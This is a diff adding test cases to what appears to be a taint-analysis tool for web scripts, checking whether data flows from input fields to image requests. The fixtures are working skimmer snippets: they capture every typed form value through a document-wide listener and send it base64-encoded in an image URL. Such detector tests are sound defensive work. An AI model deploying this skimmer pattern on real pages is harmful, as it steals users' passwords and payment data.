@@ -425,3 +425,25 @@ describe("a frame's document written as markup (srcdoc)", () => {
     )
   })
 })
+
+describe("what is written through a name holding a property of the page's global object", () => {
+  const taintSent = (source: string): string[] => {
+    const s = factsOf(source, { sinks: true }).sinks.find((x) => x.kind === 'image')
+    if (!s?.url) throw new Error('no image sink')
+    return [...s.layer.taint(s.url)]
+  }
+  const reader = `(function () { setInterval(function () {
+      var s = window.__st; new Image().src = base() + '?d=' + btoa(JSON.stringify(s.v)) }, 1000) })()`
+
+  it('is read back by another function through the global object', () => {
+    const writer = `(function () { var st = window.__st = window.__st || { v: {} }
+      document.addEventListener('input', function (e) { st.v[e.target.name] = e.target.value }, true) })()`
+    expect(taintSent(writer + reader)).toContain('value')
+  })
+
+  it('while a local object of the same shape stays local', () => {
+    const local = `(function () { var st = { v: {} }
+      document.addEventListener('input', function (e) { st.v[e.target.name] = e.target.value }, true) })()`
+    expect(taintSent(local + reader)).not.toContain('value')
+  })
+})
